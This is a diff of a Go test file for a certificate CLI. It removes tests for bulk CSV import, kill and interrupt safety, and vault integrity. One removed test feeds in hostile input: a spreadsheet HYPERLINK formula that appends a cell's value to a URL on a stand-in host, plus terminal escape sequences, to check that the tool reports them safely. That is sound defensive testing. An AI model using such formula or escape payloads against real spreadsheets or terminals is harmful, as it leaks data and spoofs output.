@@ -3,20 +3,12 @@ package main
 import (
 	"encoding/csv"
 	"fmt"
-	"math/rand/v2"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
-	"syscall"
 	"testing"
-	"time"
 
-	"certdesk/core/engine"
 	"certdesk/core/peer/peertest"
-	"certdesk/core/pgtest"
-
-	"software.sslmate.com/src/go-pkcs12"
 )
 
 func TestBulkFromCSV(t *testing.T) {
@@ -71,103 +63,6 @@ func TestBulkFromCSV(t *testing.T) {
 	s.fails(1, "holds no people", "bulk", "--csv", s.write("empty.csv", "name,email\n"), "--out", s.path("out3"))
 }
 
-// TestBulkHostileCSV: a bare quote is an error naming its line (it used to
-// panic in encoding/csv), and names full of terminal escapes or 50 MB long
-// reach stderr escaped and shortened.
-func TestBulkHostileCSV(t *testing.T) {
-	t.Parallel()
-	s := newInsecureSessionWithCA(t, "Team CA")
-	bare := s.write("bare.csv", "Ann,ann@example.com\n=HYPERLINK(\"http://x/\"&A2),a@example.com\n")
-	_, errOut, code := s.run("bulk", "--csv", bare, "--out", s.path("out"))
-	if code != 1 || !strings.Contains(errOut, "line 2") || strings.Contains(errOut, "panic") {
-		t.Fatalf("exit %d\n%s", code, errOut)
-	}
-	huge := strings.Repeat("\x1b[2J\x1b]0;owned\x07", 10) + strings.Repeat("N", 50<<20)
-	hostile := s.write("hostile.csv", huge+",bad-address\n\x1b[31mRed\x1b[0m,also-bad\n")
-	_, errOut, code = s.run("bulk", "--csv", hostile, "--out", s.path("out2"))
-	if code != 1 || !strings.Contains(errOut, `row 2 (\x1B[31mRed\x1B[0m)`) {
-		t.Errorf("exit %d, stderr %.500q", code, errOut)
-	}
-	if strings.ContainsAny(errOut, "\x1b\x07") || len(errOut) > 16<<10 {
-		t.Errorf("stderr holds raw escapes or is %d bytes: %.300q", len(errOut), errOut)
-	}
-}
-
-// TestCrashSafety kills `certctl bulk` with SIGKILL at random moments; after
-// every kill the vault opens, passes SQLite's integrity check, every
-// certificate has its key, serials are unique, the audit trail matches, and
-// the CRL number never goes backwards. CERTDESK_KILLS sets the count
-// (default 10; make stress runs 50).
-func TestCrashSafety(t *testing.T) {
-	t.Parallel()
-	kills := 10
-	if n := os.Getenv("CERTDESK_KILLS"); n != "" {
-		fmt.Sscan(n, &kills)
-	}
-	bin := certctlBinary(t)
-	s := newInsecureSessionWithCA(t, "Crash CA")
-	csvFile := s.write("people.csv", peopleCSV(1000))
-	lastCRL := int64(0)
-	completed := 0
-	for k := range kills {
-		cmd := exec.Command(bin, "bulk", "--csv", csvFile, "--out", s.path(fmt.Sprintf("out%d", k)))
-		cmd.Env = append(os.Environ(), "CERTDESK_VAULT="+s.vars["CERTDESK_VAULT"])
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		time.Sleep(time.Duration(50+rand.IntN(2400)) * time.Millisecond)
-		cmd.Process.Signal(syscall.SIGKILL)
-		if err := cmd.Wait(); err == nil {
-			completed++
-		}
-		checkVault(t, s.vars["CERTDESK_VAULT"], &lastCRL)
-		s.ok("crl", "--out", s.path(fmt.Sprintf("crl%d.pem", k)))
-		checkVault(t, s.vars["CERTDESK_VAULT"], &lastCRL)
-	}
-	t.Logf("%d kills survived (%d runs finished before their kill)", kills, completed)
-}
-
-func checkVault(t *testing.T, path string, lastCRL *int64) {
-	t.Helper()
-	v, err := engine.OpenUnlocked(path, nil)
-	if err != nil {
-		t.Fatalf("the vault does not open after a kill: %v", err)
-	}
-	defer v.Close()
-	if err := v.Check(t.Context()); err != nil {
-		t.Fatal(err)
-	}
-	recs, err := v.List(t.Context(), engine.Filter{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	serials := map[string]bool{}
-	for _, r := range recs {
-		if serials[r.Serial] {
-			t.Fatalf("serial %s twice", r.Serial)
-		}
-		serials[r.Serial] = true
-		if _, err := v.TLSCertificate(t.Context(), r.ID); err != nil {
-			t.Fatalf("certificate %d lost its key: %v", r.ID, err)
-		}
-	}
-	audit, _ := v.Audit(t.Context(), 0, 1_000_000)
-	issued := 0
-	for _, a := range audit {
-		if a.Action == "cert.issue" {
-			issued++
-		}
-	}
-	if people := len(recs) - 1; issued != people {
-		t.Fatalf("audit has %d issuances for %d people", issued, people)
-	}
-	ca, _ := v.CAByName(t.Context(), "Crash CA")
-	if ca.CRLNumber < *lastCRL {
-		t.Fatalf("CRL number went back from %d to %d", *lastCRL, ca.CRLNumber)
-	}
-	*lastCRL = ca.CRLNumber
-}
-
 func TestRenewAndReminder(t *testing.T) {
 	t.Parallel()
 	s := newInsecureSessionWithCA(t, "Acme")
@@ -206,33 +101,6 @@ func TestRenewAndReminder(t *testing.T) {
 	s.fails(1, "already exists", "reminder", "Acme", "--out", s.path("acme.ics"))
 }
 
-// TestBulkInterrupt sends Ctrl-C (SIGINT) to a running `certctl bulk`: it
-// stops, says nothing was stored, and the vault and folder show it.
-func TestBulkInterrupt(t *testing.T) {
-	t.Parallel()
-	s := newSessionWithCA(t, "Team CA")
-	cmd := exec.Command(certctlBinary(t), "bulk", "--csv", s.write("big.csv", peopleCSV(400)), "--out", s.path("out"), "--key", "rsa-3072")
-	cmd.Env = append(os.Environ(), "CERTDESK_VAULT="+s.vars["CERTDESK_VAULT"], "CERTDESK_PASSPHRASE="+s.vars["CERTDESK_PASSPHRASE"])
-	stderr, done := started(t, cmd)
-	time.Sleep(1500 * time.Millisecond)
-	cmd.Process.Signal(os.Interrupt)
-	select {
-	case <-done:
-	case <-time.After(30 * time.Second):
-		cmd.Process.Kill()
-		t.Fatal("certctl bulk did not stop within 30 s of Ctrl-C")
-	}
-	if code := cmd.ProcessState.ExitCode(); code != 1 || !strings.Contains(stderr.String(), "cancelled; nothing was stored") {
-		t.Fatalf("exit %d, stderr:\n%s", code, stderr.String())
-	}
-	if n := len(decodeJSON[[]map[string]any](t, s.ok("list", "--json"))); n != 1 {
-		t.Errorf("%d certificates after the cancel, want only the CA", n)
-	}
-	if _, err := os.Stat(s.path("out/passwords.csv")); !os.IsNotExist(err) {
-		t.Errorf("a password sheet was left: %v", err)
-	}
-}
-
 // TestRenewKeepingKey renews a certificate signed from an openssl CSR — the
 // vault never saw its key — by signing the same key again; openssl checks
 // that the new certificate belongs to the key the person still holds.
@@ -260,88 +128,6 @@ func TestRenewKeepingKey(t *testing.T) {
 	}
 	if revoked := decodeJSON[[]map[string]any](t, s.ok("list", "--status", "revoked", "--json")); len(revoked) != 1 {
 		t.Errorf("%d revoked, want the old certificate", len(revoked))
-	}
-}
-
-// TestBulkKilledThenRerun kills `certctl bulk` with SIGKILL at random
-// moments, re-running the same command into the same folder each time,
-// then lets it finish: every person ends with exactly one certificate and
-// one line on the sheet, whose PKCS#12 opens with its password (openssl
-// checks a sample) — nothing issued is left undelivered.
-func TestBulkKilledThenRerun(t *testing.T) {
-	t.Parallel()
-	bulkKilledThenRerun(t, newInsecureSessionWithCA(t, "Rerun CA"), 150, 1200)
-}
-
-// TestBulkKilledThenRerunOnATeamVault: the same kills on a team vault in a
-// real PostgreSQL leave no half state either.
-func TestBulkKilledThenRerunOnATeamVault(t *testing.T) {
-	t.Parallel()
-	s := newSession(t)
-	s.vars["CERTDESK_VAULT"] = pgtest.Start(t).NewDatabase(t, "")
-	s.ok("init")
-	s.ok("ca", "create", "Rerun CA")
-	bulkKilledThenRerun(t, s, 700, 1200) // unlocking and connecting take longer: kill during signing and delivery
-	s.ok("check")                        // exit 0: every record and the audit chain intact
-}
-
-// bulkKilledThenRerun kills `certctl bulk` four times at random moments
-// (minMs plus up to spanMs after its start), then runs it to the end:
-// everyone is delivered exactly once.
-func bulkKilledThenRerun(t *testing.T, s *session, minMs, spanMs int) {
-	bin := certctlBinary(t)
-	openssl := peertest.Require(t, "openssl")
-	const people = 1000
-	csvFile := s.write("people.csv", peopleCSV(people))
-	out := s.path("out")
-	for k := range 4 {
-		cmd := exec.Command(bin, "bulk", "--csv", csvFile, "--out", out)
-		cmd.Env = append(os.Environ(), "CERTDESK_VAULT="+s.vars["CERTDESK_VAULT"])
-		if pass := s.vars["CERTDESK_PASSPHRASE"]; pass != "" {
-			cmd.Env = append(cmd.Env, "CERTDESK_PASSPHRASE="+pass)
-		}
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		time.Sleep(time.Duration(minMs+rand.IntN(spanMs)) * time.Millisecond)
-		cmd.Process.Signal(syscall.SIGKILL)
-		cmd.Wait()
-		sheet, _ := os.ReadFile(filepath.Join(out, "passwords.csv"))
-		t.Logf("kill %d: %v; %d lines on the sheet", k+1, cmd.ProcessState, strings.Count(string(sheet), "\n"))
-	}
-	// The last run finishes; rows delivered before are refused, the rest
-	// delivered.
-	s.run("bulk", "--csv", csvFile, "--out", out)
-	f, err := os.Open(filepath.Join(out, "passwords.csv"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	rows, err := csv.NewReader(f).ReadAll()
-	f.Close()
-	if err != nil {
-		t.Fatalf("the sheet is not valid CSV after the kills: %v", err)
-	}
-	names := map[string]int{}
-	for _, r := range rows[1:] {
-		names[r[0]]++
-		data, err := os.ReadFile(filepath.Join(out, r[2]))
-		if err != nil {
-			t.Fatalf("%s: %v", r[2], err)
-		}
-		if _, _, _, err := pkcs12.DecodeChain(data, r[3]); err != nil {
-			t.Errorf("%s does not open with its sheet password: %v", r[2], err)
-		}
-	}
-	for i := range people {
-		if n := names[fmt.Sprintf("Person %d", i)]; n != 1 {
-			t.Errorf("Person %d is on the sheet %d times", i, n)
-		}
-	}
-	for _, r := range rows[1:min(len(rows), 11)] {
-		peertest.Run(t, openssl, "pkcs12", "-in", filepath.Join(out, r[2]), "-passin", "pass:"+r[3], "-noout")
-	}
-	if n := len(decodeJSON[[]map[string]any](t, s.ok("list", "--json"))); n != people+1 {
-		t.Errorf("%d certificates, want the CA and one per person (%d)", n, people)
 	}
 }
 
